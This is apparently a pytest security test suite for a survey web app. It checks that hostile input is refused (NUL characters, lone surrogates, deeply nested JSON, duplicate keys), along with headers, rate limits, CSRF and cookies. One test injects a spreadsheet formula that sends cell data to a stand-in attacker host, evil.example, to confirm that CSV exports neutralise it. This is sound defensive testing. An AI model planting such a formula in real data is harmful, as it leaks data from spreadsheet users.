"""Hostile input that used to end in a 500, on a real uvicorn over SQLite and PostgreSQL.

* NUL characters (U+0000: PostgreSQL refuses them in text) and lone surrogates (not UTF-8)
  in the path, a query parameter, a form field or a JSON string: 422 with the JSON error
  ``{"code": "invalid_input", "message": ...}`` naming the place, before any route runs
  (:class:`app.middleware.HostileInputMiddleware`); in an uploaded file: the import form
  names the file and line (the importer's check), never a 500.
* A ``codebook.jsonl`` line and a ``dataset.json`` nested 5,000 deep: the upload preview
  names the file and line.
* A JSON body that repeats a key in one object: 422 naming the key, nothing stored.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.support.secutil import HostileWorld, admin_client, hostile_world


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def world(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[HostileWorld]:
    with hostile_world(request.param, tmp_path_factory.mktemp(f"hostile-{request.param}")) as w:
        yield w


def _refused(r: httpx.Response, where: str) -> None:
    assert r.status_code == 422, (r.status_code, r.text)
    body = r.json()
    assert body["code"] == "invalid_input"
    assert where in body["message"], body["message"]


def test_nul_without_login(world: HostileWorld) -> None:
    base = world.server.base
    _refused(httpx.get(f"{base}/s/a%00b"), "the path contains a NUL character")
    _refused(httpx.post(f"{base}/s/a%00b/consent", data={}), "the path")
    _refused(
        httpx.post(
            f"{base}/api/v1/studies/a%00b/sessions",
            json={},
            headers={"Authorization": "Bearer pk_madeup_0000"},
        ),
        "the path",
    )
    with httpx.Client(base_url=base) as client:
        client.get("/admin/login")
        _refused(
            client.post(
                "/admin/login",
                data={
                    "email": "a\x00b@x.io",
                    "password": "x" * 12,
                    "csrf_token": client.cookies["priorly_csrf"],
                },
            ),
            "form field 'email' contains a NUL character (U+0000) at position 1",
        )
    _refused(httpx.get(f"{base}/s/{world.live.slug}?x=%00"), "query parameter 'x'")
    # a query parameter given twice: which one counts cannot be known
    owner = {"Authorization": f"Bearer {world.live.owner_key}"}
    twice = f"{base}/api/v1/studies/{world.live.slug}/responses?limit=1&limit=2"
    _refused(httpx.get(twice, headers=owner), "query parameter 'limit' is given twice")
    _refused(httpx.get(f"{base}/admin/login?next=a&next=b"), "query parameter 'next'")


def test_nul_and_surrogates_with_credentials(world: HostileWorld) -> None:
    base, live = world.server.base, world.live
    owner = {"Authorization": f"Bearer {live.owner_key}"}
    url = f"{base}/api/v1/studies/{live.slug}/sessions"
    _refused(httpx.post(url, json={"external_id": "a\x00b"}, headers=owner), "$.external_id")
    surrogate = b'{"external_id": "x\\ud800y"}'
    r = httpx.post(url, content=surrogate, headers={**owner, "content-type": "application/json"})
    _refused(r, "the JSON body at $.external_id contains a lone surrogate (U+D800)")
    created = httpx.post(url, json={}, headers=owner)
    assert created.status_code == 201, created.text
    sess = created.json()
    answer = {
        "item": sess["question"]["item"],
        "option": sess["question"]["options"][0]["letter"],
        "idempotency_key": "k\x00",
    }
    r = httpx.post(
        f"{base}/api/v1/sessions/{sess['session_id']}/answers",
        json=answer,
        headers={"Authorization": f"Bearer {sess['token']}"},
    )
    _refused(r, "$.idempotency_key")
    # a key twice in one object ("option" A, then B): refused, nothing stored
    q = sess["question"]
    twice = (
        f'{{"item": "{q["item"]}", "option": "{q["options"][0]["letter"]}", '
        f'"option": "{q["options"][1]["letter"]}", "idempotency_key": "dup1"}}'
    ).encode()
    r = httpx.post(
        f"{base}/api/v1/sessions/{sess['session_id']}/answers",
        content=twice,
        headers={"Authorization": f"Bearer {sess['token']}", "content-type": "application/json"},
    )
    _refused(r, "the JSON body repeats the key 'option' in one object")
    for body, words in (
        (b'{"external_id": ' + b"[" * 5000 + b"]" * 5000 + b"}", "nested too deeply to read"),
        (b'{"external_id": ' + b"9" * 100_000 + b"}", "a number of more than 4,300 digits"),
        (b'\xff{"external_id": "x"}', "the JSON body is not UTF-8 text (byte 0)"),
    ):
        r = httpx.post(url, content=body, headers={**owner, "content-type": "application/json"})
        _refused(r, words)
    got = httpx.get(
        f"{base}/api/v1/sessions/{sess['session_id']}",
        headers={"Authorization": f"Bearer {sess['token']}"},
    )
    assert got.json()["questions_answered"] == 0
    with admin_client(world.server) as admin:
        _refused(admin.post("/admin/studies", data={"name": "x\x00y"}), "form field 'name'")
        _refused(admin.post("/admin/keys", data={"name": "\x00"}), "form field 'name'")
        _refused(
            admin.post(f"/admin/studies/{live.slug}/share", data={"email": "a\x00@b.io"}),
            "form field 'email'",
        )
        _refused(
            admin.post(
                "/admin/import/upload",
                data={"name": "up\x00load", "action": "preview"},
                files={"responses.csv": ("responses.csv", b"id\n1\n")},
            ),
            "form field 'name'",
        )


def test_malformed_ids_and_unknown_items_get_pages_not_json(world: HostileWorld) -> None:
    """A malformed id in an admin path is the admin's error page naming the parameter; an
    unknown item posted to the survey is the survey's message page (neither is JSON)."""
    base, live = world.server.base, world.live
    with admin_client(world.server) as admin:
        for path, name in (
            (f"/admin/studies/{live.slug}/jobs/abc", "job_id"),
            (f"/admin/studies/{live.slug}/respondents/x", "respondent_id"),
            (f"/admin/studies/{live.slug}/jobs/1%20", "job_id"),
        ):
            r = admin.get(path)
            assert r.status_code == 422, (path, r.status_code)
            assert r.headers["content-type"].startswith("text/html"), path
            assert name in r.text, path
    with httpx.Client(base_url=base, follow_redirects=True) as browser:
        browser.get(f"/s/{live.slug}")
        r = browser.post(f"/s/{live.slug}/consent", data={"choice": "accept"})
        assert r.status_code == 200
        r = browser.post(f"/s/{live.slug}/answer", data={"item": "no-such-item", "option": "A"})
        assert 400 <= r.status_code < 500 and r.headers["content-type"].startswith("text/html")
        assert "no-such-item" in r.text


def _upload(
    admin: httpx.Client, files: dict[str, bytes], action: str = "preview"
) -> httpx.Response:
    return admin.post(
        "/admin/import/upload",
        data={"name": "hostile upload", "action": action},
        files={name: (name, content) for name, content in files.items()},
    )


def _dataset_files(folder: Path) -> dict[str, bytes]:
    """The files of a 30-respondent CES copy, as an upload sends them."""
    from tests.support.data import DATASETS_DIR, write_small_dataset

    small = write_small_dataset(DATASETS_DIR / "ces", folder / "ces", 30)
    return {p.name: p.read_bytes() for p in sorted(small.iterdir()) if p.is_file()}


def test_uploaded_files_with_nul_or_deep_nesting(world: HostileWorld, tmp_path: Path) -> None:
    files = _dataset_files(tmp_path)
    deep = "[" * 5000 + "]" * 5000
    lines = files["codebook.jsonl"].decode().splitlines()
    first = json.loads(lines[0])
    with admin_client(world.server) as admin:
        ok = _upload(admin, files)
        assert ok.status_code == 200, ok.text
        for action, name, content, expected in (
            (
                "preview",
                "codebook.jsonl",
                "\n".join([lines[0], f'{{"id": "x", "deep": {deep}}}', *lines[1:]]).encode(),
                "codebook.jsonl, line 2: JSON nested too deeply",
            ),
            (
                "preview",
                "dataset.json",
                f'{{"name": "x", "deep": {deep}}}'.encode(),
                "dataset.json",
            ),
            (
                "import",
                "codebook.jsonl",
                "\n".join([json.dumps({**first, "question": "Q\x00?"}), *lines[1:]]).encode(),
                "codebook.jsonl, line 1: item",
            ),
            (  # the preview refuses what the import would
                "preview",
                "codebook.jsonl",
                "\n".join([json.dumps({**first, "question": "Q\x00?"}), *lines[1:]]).encode(),
                "codebook.jsonl, line 1: item",
            ),
        ):
            r = _upload(admin, {**files, name: content}, action)
            assert r.status_code < 500, r.text
            assert expected in r.text, (name, r.text[-2000:])
            assert "/tmp" not in r.text  # no server temp path in the error
        # an item key that would display as another (a codebook alone: a new study)
        spoof = "\n".join([json.dumps({**first, "id": "t1\u202e"}), *lines[1:]]).encode()
        r = _upload(admin, {"codebook.jsonl": spoof}, "import")
        assert r.status_code == 422 and "codebook.jsonl, line 1: item id" in r.text, r.text[-2000:]
        assert "bidirectional control character (U+202E)" in r.text


def test_a_browser_boundary_keeps_its_case(world: HostileWorld, tmp_path: Path) -> None:
    """Chromium's multipart boundary is mixed case (``----WebKitFormBoundary...``): a NUL
    in an uploaded file is the importer's to report with its file and line, and a NUL in
    a text field is blamed on that field. (With the boundary lowercased, no part was found
    and the whole body was blamed on the first field, ``csrf_token``.) A browser gets that
    refusal as the admin error page, a script as JSON."""
    files = _dataset_files(tmp_path)
    first, *rest = files["codebook.jsonl"].decode().splitlines()
    bad = "\n".join([json.dumps({**json.loads(first), "question": "Q\x00?"}), *rest]).encode()
    boundary = "----WebKitFormBoundaryAbCdEfGh12"

    def body(fields: dict[str, str], uploads: dict[str, bytes]) -> bytes:
        out = b""
        for name, value in fields.items():
            out += (
                f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
            ).encode()
        for name, content in uploads.items():
            out += (
                (
                    f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
                    f'filename="{name}"\r\nContent-Type: application/octet-stream\r\n\r\n'
                ).encode()
                + content
                + b"\r\n"
            )
        return out + f"--{boundary}--\r\n".encode()

    headers = {"content-type": f"multipart/form-data; boundary={boundary}"}
    with admin_client(world.server) as admin:
        token = admin.headers["X-CSRF-Token"]
        fields = {"csrf_token": token, "name": "browser upload", "action": "preview"}
        r = admin.post(
            "/admin/import/upload",
            content=body(fields, {**files, "codebook.jsonl": bad}),
            headers=headers,
        )
        assert r.status_code < 500 and "form field 'csrf_token'" not in r.text, r.text[-1000:]
        assert "codebook.jsonl, line 1: item" in r.text, r.text[-2000:]
        r = admin.post(
            "/admin/import/upload",
            content=body({**fields, "name": "browser\x00upload"}, files),
            headers=headers,
        )
        assert r.status_code == 422 and "form field 'name' contains a NUL" in r.text, r.text
        assert r.headers["content-type"].startswith("application/json")  # a script: JSON
        # a browser's form (text/html in Accept) gets the admin error page, same status
        r = admin.post(
            "/admin/import/upload",
            content=body({**fields, "name": "browser\x00upload"}, files),
            headers={**headers, "accept": "text/html,application/xhtml+xml,*/*;q=0.8"},
        )
        assert r.status_code == 422 and r.headers["content-type"].startswith("text/html")
        assert (
            "<h1>Error 422</h1>" in r.text and "form field &#39;name&#39; contains a NUL" in r.text
        )


def test_import_command_nested_json(tmp_path: Path) -> None:
    """``priorly import`` of a dataset with a line nested 5,000 deep: exit 2, one line."""
    import os
    import subprocess
    import sys

    from tests.support.data import REPO_ROOT

    folder = tmp_path / "deep"
    folder.mkdir()
    for name, content in _dataset_files(tmp_path).items():
        (folder / name).write_bytes(content)
    deep = "[" * 5000 + "]" * 5000
    (folder / "codebook.jsonl").write_text(
        (folder / "codebook.jsonl").read_text() + f'{{"id": "x", "deep": {deep}}}\n'
    )
    env = {**os.environ, "PRIORLY_DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"}
    subprocess.run(
        [sys.executable, "-m", "app.cli", "db", "upgrade"],
        env=env,
        cwd=REPO_ROOT,
        check=True,
        capture_output=True,
    )
    r = subprocess.run(
        [sys.executable, "-m", "app.cli", "import", str(folder)],
        env=env,
        cwd=REPO_ROOT,
        capture_output=True,
        text=True,
    )
    assert r.returncode == 2, (r.returncode, r.stdout, r.stderr)
    err = r.stderr.strip().splitlines()
    assert len(err) == 1 and "codebook.jsonl, line" in err[0], r.stderr
    assert "nested too deeply" in err[0]


# ----- security headers -----------------------------------------------------------------


def test_security_headers_on_admin_login_and_respondent_pages(world: HostileWorld) -> None:
    base, slug = world.server.base, world.live.slug
    with admin_client(world.server) as admin:
        pages = [admin.get("/admin"), admin.get(f"/admin/studies/{slug}")]
    pages += [httpx.get(f"{base}/admin/login"), httpx.get(f"{base}/s/{slug}")]
    pages += [httpx.get(f"{base}/api/v1/sessions/1")]
    for r in pages:
        assert r.status_code < 500, r.text
        csp = r.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
        assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
        assert r.headers["x-frame-options"] == "DENY"
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "no-referrer"
        assert "strict-transport-security" not in r.headers  # not in PRIORLY_ENV=test
    for r in pages[:3]:  # no inline script or event handler the policy would block
        assert "<script>" not in r.text and " onclick=" not in r.text
        assert " onsubmit=" not in r.text


def test_hsts_in_prod() -> None:
    from fastapi.testclient import TestClient

    from app.main import create_app
    from app.settings import Settings

    settings = Settings(env="prod", secret_key="p" * 40, database_url="sqlite:///:memory:")  # type: ignore[arg-type]
    client = TestClient(create_app(settings))
    r = client.get("/static/js/confirm.js")
    assert r.status_code == 200
    assert r.headers["strict-transport-security"].startswith("max-age=31536000")


# ----- the API limit and made-up credentials ------------------------------------------------

LOW_LIMIT = 20


def _counter_rows(url: str) -> set[str]:
    from sqlalchemy import select
    from sqlmodel import Session

    from app.db import make_engine
    from app.tables import RateLimitCounter

    engine = make_engine(url)
    try:
        with Session(engine) as db:
            return set(db.exec(select(RateLimitCounter.key)).scalars().all())  # type: ignore[call-overload]
    finally:
        engine.dispose()


def test_made_up_credentials_share_the_address_limit(world: HostileWorld, tmp_path: Path) -> None:
    """100 calls, each with a new made-up bearer value (API-key-like, token-like, on the
    answer call too): after the address's limit they get 429, and no counter is made for
    any of them. A real session's token keeps its own counter (still answered), and a new
    real API key's first call is looked up and answered, not refused with the address."""
    import secrets

    from app.ratelimit import counter_key
    from tests.support.live_study import free_port  # noqa: F401  (the server helper's dependency)
    from tests.support.secutil import live_server

    live = world.live
    env = {"PRIORLY_SESSION_RATE_LIMIT_PER_MINUTE": str(LOW_LIMIT)}
    with live_server(live.url, tmp_path / "limited.log", env_extra=env, log_level="warning") as srv:
        owner = {"Authorization": f"Bearer {live.owner_key}"}
        created = httpx.post(
            f"{srv.base}/api/v1/studies/{live.slug}/sessions", json={}, headers=owner
        )
        assert created.status_code == 201, created.text
        sess = created.json()
        made_up = [
            f"pk_{secrets.token_hex(4)}_{secrets.token_urlsafe(32)}"
            if i % 2
            else secrets.token_urlsafe(32)
            for i in range(100)
        ]
        statuses = []
        for i, credential in enumerate(made_up):
            headers = {"Authorization": f"Bearer {credential}"}
            if i % 3 == 0:
                r = httpx.post(
                    f"{srv.base}/api/v1/sessions/{sess['session_id']}/answers",
                    json={
                        "item": sess["question"]["item"],
                        "option": "A",
                        "idempotency_key": f"k{i}",
                    },
                    headers=headers,
                )
            else:
                r = httpx.get(f"{srv.base}/api/v1/sessions/{sess['session_id']}", headers=headers)
            statuses.append(r.status_code)
        assert statuses.count(429) >= 100 - LOW_LIMIT - 1, statuses
        assert set(statuses) <= {401, 429}, statuses
        refused = httpx.get(
            f"{srv.base}/api/v1/sessions/{sess['session_id']}",
            headers={"Authorization": f"Bearer {made_up[0]}"},
        )
        assert refused.status_code == 429
        assert "from this address without a known credential" in refused.json()["message"]
        rows = _counter_rows(live.url)
        assert not rows & {counter_key("api", c) for c in made_up}
        # a new real API key's first call from the busy address is answered, on its own counter
        from app.services.apikeys import create_api_key

        with live.session() as db:
            fresh = create_api_key("owner@example.org", session=db, name="fresh").key
        first = httpx.get(
            f"{srv.base}/api/v1/studies", headers={"Authorization": f"Bearer {fresh}"}
        )
        assert first.status_code == 200, first.text
        assert counter_key("api", fresh) in _counter_rows(live.url)
        # the real respondent, from the same address, still has its own counter
        mine = httpx.get(
            f"{srv.base}/api/v1/sessions/{sess['session_id']}",
            headers={"Authorization": f"Bearer {sess['token']}"},
        )
        assert mine.status_code == 200, mine.text
        assert counter_key("api", sess["token"]) in _counter_rows(live.url)


# ----- logout, password change, account removal; the CSRF token of the login -----------------


def _logged_in_cookie(world: HostileWorld, email: str) -> dict[str, str]:
    with admin_client(world.server, email) as admin:
        return dict(admin.cookies)


def _keys_page(world: HostileWorld, cookies: dict[str, str]) -> int:
    r = httpx.get(f"{world.server.base}/admin/keys", cookies=cookies, follow_redirects=False)
    return r.status_code


def test_logout_and_password_change_end_the_session(world: HostileWorld) -> None:
    from sqlmodel import Session, select

    from app.auth import set_password
    from app.db import make_engine
    from app.tables import AdminSession, Researcher
    from tests.support.secutil import OWNER_EMAIL, PASSWORD

    base = world.server.base
    with admin_client(world.server) as admin:
        saved = dict(admin.cookies)
        assert _keys_page(world, saved) == 200
        out = admin.post("/admin/logout", data={"csrf_token": admin.cookies["priorly_csrf"]})
        assert out.status_code in (200, 303)
    assert _keys_page(world, saved) == 303  # the saved cookie is dead: to the login page
    # a password change ends every login of the account (two browsers here)
    first, second = (_logged_in_cookie(world, OWNER_EMAIL) for _ in range(2))
    assert _keys_page(world, first) == 200 and _keys_page(world, second) == 200
    engine = make_engine(world.live.url)
    try:
        with Session(engine) as db:
            owner = db.exec(select(Researcher).where(Researcher.email == OWNER_EMAIL)).one()
            set_password(owner, PASSWORD, session=db)  # even to the same password
        assert _keys_page(world, first) == 303 and _keys_page(world, second) == 303
        # removing the account removes its logins
        third = _logged_in_cookie(world, OWNER_EMAIL)
        with Session(engine) as db:
            owner = db.exec(select(Researcher).where(Researcher.email == OWNER_EMAIL)).one()
            owner.is_active = False
            db.add(owner)
            db.commit()
            assert _keys_page(world, third) == 303
            owner.is_active = True
            db.add(owner)
            db.commit()
            assert db.exec(select(AdminSession).where(AdminSession.researcher_id == owner.id)).all()
        # only hashes are stored
        with Session(engine) as db:
            hashes = {row.token_hash for row in db.exec(select(AdminSession)).all()}
        assert third["priorly_session"] not in hashes
    finally:
        engine.dispose()
    assert httpx.get(f"{base}/admin/login").status_code == 200


def test_csrf_token_is_bound_to_the_login(world: HostileWorld) -> None:
    """A planted ``priorly_csrf`` cookie with a matching field no longer passes."""
    with admin_client(world.server) as admin:
        session_cookie = admin.cookies["priorly_session"]
        planted = "planted-token-0123456789"
        r = httpx.post(
            f"{world.server.base}/admin/keys",
            data={"name": "csrf probe", "csrf_token": planted},
            cookies={"priorly_session": session_cookie, "priorly_csrf": planted},
        )
        assert r.status_code == 403, r.text
        token = admin.cookies["priorly_csrf"]
        # the valid token beside another one is refused too, naming the repeated field
        twice = httpx.post(
            f"{world.server.base}/admin/keys",
            data={"name": "x", "csrf_token": [token, planted]},
            cookies=dict(admin.cookies),
        )
        assert twice.status_code == 403 and "csrf_token field is given 2 times" in twice.text
        ok = admin.post("/admin/keys", data={"name": "real", "csrf_token": token})
        assert ok.status_code == 200, ok.text


def test_host_prefixed_cookies_in_prod(tmp_path: Path) -> None:
    from fastapi.testclient import TestClient
    from sqlmodel import Session

    from app.auth import create_account
    from app.db import make_engine, upgrade
    from app.main import create_app
    from app.settings import Settings

    url = f"sqlite:///{tmp_path / 'prod.db'}"
    upgrade(url)
    engine = make_engine(url)
    with Session(engine) as db:
        create_account("p@example.org", "prod password 123", session=db)
    engine.dispose()
    settings = Settings(env="prod", secret_key="p" * 40, database_url=url)  # type: ignore[arg-type]
    with TestClient(create_app(settings), base_url="https://priorly.example.org") as client:
        page = client.get("/admin/login")
        csrf = client.cookies["__Host-priorly_csrf"]
        assert "; secure" in page.headers["set-cookie"].lower()
        r = client.post(
            "/admin/login",
            data={"email": "p@example.org", "password": "prod password 123", "csrf_token": csrf},
            follow_redirects=False,
        )
        assert r.status_code == 303, r.text
        set_cookies = r.headers.get_list("set-cookie")
        session = [c for c in set_cookies if c.startswith("__Host-priorly_session=")]
        assert session and "secure" in session[0].lower() and "path=/" in session[0].lower()
        assert "domain=" not in session[0].lower()
        assert client.get("/admin/keys", follow_redirects=False).status_code == 200


def test_prod_over_plain_http_says_https_is_required(tmp_path: Path) -> None:
    """``PRIORLY_ENV=prod`` reached over http (no trusted proxy saying https): the admin,
    the surveys and the group links answer 400 with a page saying HTTPS is required, set
    no cookie and store nothing; ``/healthz`` and the API stay reachable. Over https, or
    http behind a trusted proxy sending ``X-Forwarded-Proto: https``, the pages work."""
    from fastapi.testclient import TestClient

    from app.db import upgrade
    from app.main import create_app
    from app.settings import Settings

    url = f"sqlite:///{tmp_path / 'prod.db'}"
    upgrade(url)
    settings = Settings(env="prod", secret_key="p" * 40, database_url=url)  # type: ignore[arg-type]
    app = create_app(settings)
    with TestClient(app, base_url="http://priorly.example.org") as client:
        refused = [
            client.get("/admin/login"),
            client.get("/admin"),
            client.post("/admin/login", data={"email": "p@example.org", "password": "x"}),
            client.get("/s/ces"),
            client.post("/s/ces/start", data={"consent": "yes"}),
            client.get("/g/sometoken"),
        ]
        healthz = client.get("/healthz")
        api = client.get("/api/v1/studies")
    for r in refused:
        assert r.status_code == 400, (r.request.url, r.status_code)
        assert "PRIORLY_ENV=prod" in r.text and "X-Forwarded-Proto: https" in r.text
        assert "set-cookie" not in r.headers
    assert healthz.status_code == 200
    assert api.status_code == 401 and api.json()["code"] == "unauthenticated"
    assert _respondents(url) == 0
    with TestClient(app, base_url="https://priorly.example.org") as client:
        assert client.get("/admin/login").status_code == 200
    proxied = create_app(settings.model_copy(update={"trusted_proxies": "*"}))
    with TestClient(proxied, base_url="http://priorly.example.org") as client:
        page = client.get("/admin/login", headers={"X-Forwarded-Proto": "https"})
        assert page.status_code == 200 and "__Host-priorly_csrf" in page.headers["set-cookie"]
        assert client.get("/admin/login").status_code == 400  # the proxy did not say https


# ----- lower severity -------------------------------------------------------------------------


def _respondents(url: str) -> int:
    from sqlalchemy import func, select
    from sqlmodel import Session

    from app.db import make_engine
    from app.tables import Respondent

    engine = make_engine(url)
    try:
        with Session(engine) as db:
            return int(db.exec(select(func.count()).select_from(Respondent)).scalar_one())  # type: ignore[call-overload]
    finally:
        engine.dispose()


def test_respondent_pages_are_rate_limited(world: HostileWorld) -> None:
    """60 consents from one address in a few seconds create at most the limit (30)."""
    from app.settings import Settings

    limit = Settings().respondent_start_rate_limit_per_minute
    url = f"{world.server.base}/s/{world.live.slug}/consent"
    before = _respondents(world.live.url)
    statuses = []
    for _ in range(60):
        with httpx.Client() as browser:  # a new browser each time: no respondent cookie
            statuses.append(browser.post(url, data={"choice": "accept"}).status_code)
    created = _respondents(world.live.url) - before
    assert created <= limit, (created, statuses)
    assert statuses.count(429) >= 60 - limit, statuses
    refused = httpx.post(url, data={"choice": "accept"})
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) > 0
    assert "try again" in refused.text and "<html" in refused.text.lower()


def test_csv_exports_neutralise_formulas(world: HostileWorld) -> None:
    live = world.live
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    r = httpx.post(
        f"{world.server.base}/api/v1/studies/{live.slug}/sessions",
        json={"external_id": formula},
        headers={"Authorization": f"Bearer {live.owner_key}"},
    )
    assert r.status_code == 201, r.text
    with admin_client(world.server) as admin:
        for name in ("answers_wide.csv", "answers_long.csv"):
            text = admin.get(f"/admin/studies/{live.slug}/export/{name}").text
            if name == "answers_wide.csv":
                assert "'=HYPERLINK(" in text, text[:500]
            for line in text.splitlines():
                for cell in line.split(","):
                    assert not cell.lstrip('"').startswith(("=", "+", "@")), line


def test_study_settings_refuse_infinite_and_absurd_values(world: HostileWorld) -> None:
    from sqlmodel import Session, select

    from app.db import make_engine
    from app.tables import Study

    live = world.live
    with admin_client(world.server) as admin:
        for field, value in (
            ("stop_eig_threshold", "inf"),
            ("stop_entropy_threshold", "nan"),
            ("max_questions", str(10**20)),
            ("rounds", str(10**20)),
            ("total_answers", str(10**20)),
        ):
            form = {"criterion": "eig", "max_questions": "10", "rounds": "4", field: value}
            r = admin.post(f"/admin/studies/{live.slug}/settings", data=form)
            assert r.status_code == 422, (field, r.status_code)
            assert field in r.text, field
    engine = make_engine(live.url)
    try:
        with Session(engine) as db:
            settings = db.exec(select(Study.settings).where(Study.slug == live.slug)).one()
    finally:
        engine.dispose()
    assert "inf" not in str(settings).lower() and "1e+20" not in str(settings)
    created = httpx.post(
        f"{world.server.base}/api/v1/studies/{live.slug}/sessions",
        json={},
        headers={"Authorization": f"Bearer {live.owner_key}"},
    )
    assert created.status_code == 201, created.text  # new sessions still start


def test_long_slug_is_not_echoed_and_options_lists_methods(world: HostileWorld) -> None:
    base, live = world.server.base, world.live
    slug = "x" * 50_000
    with admin_client(world.server) as admin:
        page = admin.get(f"/admin/studies/{slug}")
    api = httpx.post(
        f"{base}/api/v1/studies/{slug}/sessions",
        json={},
        headers={"Authorization": f"Bearer {live.owner_key}"},
    )
    for r in (page, api):
        assert r.status_code < 500
        assert "x" * 1000 not in r.text and len(r.text) < 20_000
    r = httpx.options(f"{base}/api/v1/sessions/1")
    assert r.status_code == 204
    assert {m.strip() for m in r.headers["allow"].split(",")} == {
        "GET",
        "HEAD",
        "DELETE",
        "OPTIONS",
    }
    r = httpx.options(f"{base}/api/v1/sessions/1/answers")
    assert {m.strip() for m in r.headers["allow"].split(",")} == {"POST", "OPTIONS"}
    # what no route takes is answered in the API's error format: 405 with Allow for a
    # method the path does not have, 404 for a path without routes (also with a long path)
    r = httpx.put(f"{base}/api/v1/sessions/1", json={})
    assert r.status_code == 405 and r.json()["code"] == "method_not_allowed"
    assert {m.strip() for m in r.headers["allow"].split(",")} == {
        "GET",
        "HEAD",
        "DELETE",
        "OPTIONS",
    }
    assert "PUT /api/v1/sessions/1: this path allows" in r.json()["message"]
    for method, path in (
        ("GET", "/api/v1/sessions"),
        ("GET", "/api/v1/studies/ces/items"),
        ("HEAD", "/api/v1/nothing"),
        ("DELETE", "/api/v1/" + slug),
    ):
        r = httpx.request(method, base + path)
        assert r.status_code == 404, (method, path, r.status_code)
        if method != "HEAD":
            assert r.json()["code"] == "not_found" and len(r.text) < 1000


def test_trusted_proxies_setting(tmp_path: Path) -> None:
    """X-Forwarded-For names the client only for a request from PRIORLY_TRUSTED_PROXIES."""
    from fastapi.testclient import TestClient

    from app.db import upgrade
    from app.main import create_app
    from app.settings import Settings

    url = f"sqlite:///{tmp_path / 'proxy.db'}"
    upgrade(url)
    for trusted, second in (("testclient", 303), ("127.0.0.1", 429)):
        settings = Settings(
            database_url=url,
            trusted_proxies=trusted,
            respondent_start_rate_limit_per_minute=1,
        )
        with TestClient(create_app(settings)) as client:
            statuses = []
            for address in (f"203.0.113.{trusted == 'testclient'}", "198.51.100.7"):
                r = client.post(
                    "/s/no-such-study/consent",
                    data={"choice": "accept"},
                    headers={"X-Forwarded-For": address},
                    follow_redirects=False,
                )
                statuses.append(r.status_code)
            # one start per address and minute: two addresses pass only when believed
            assert statuses[0] != 429 and (statuses[1] == 429) == (second == 429), statuses


def test_postgres_url_without_the_driver_is_one_line(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    from tests.support.data import REPO_ROOT

    code = (
        "import sys; sys.modules['psycopg'] = None; from app.cli import main; "
        "sys.exit(main(['db', 'upgrade']))"
    )
    env = {**os.environ, "PRIORLY_DATABASE_URL": "postgresql+psycopg://u@127.0.0.1:1/x"}
    r = subprocess.run(
        [sys.executable, "-c", code], env=env, cwd=REPO_ROOT, capture_output=True, text=True
    )
    assert r.returncode == 2, r.stderr
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and "pip install 'priorly[postgres]'" in lines[0], r.stderr
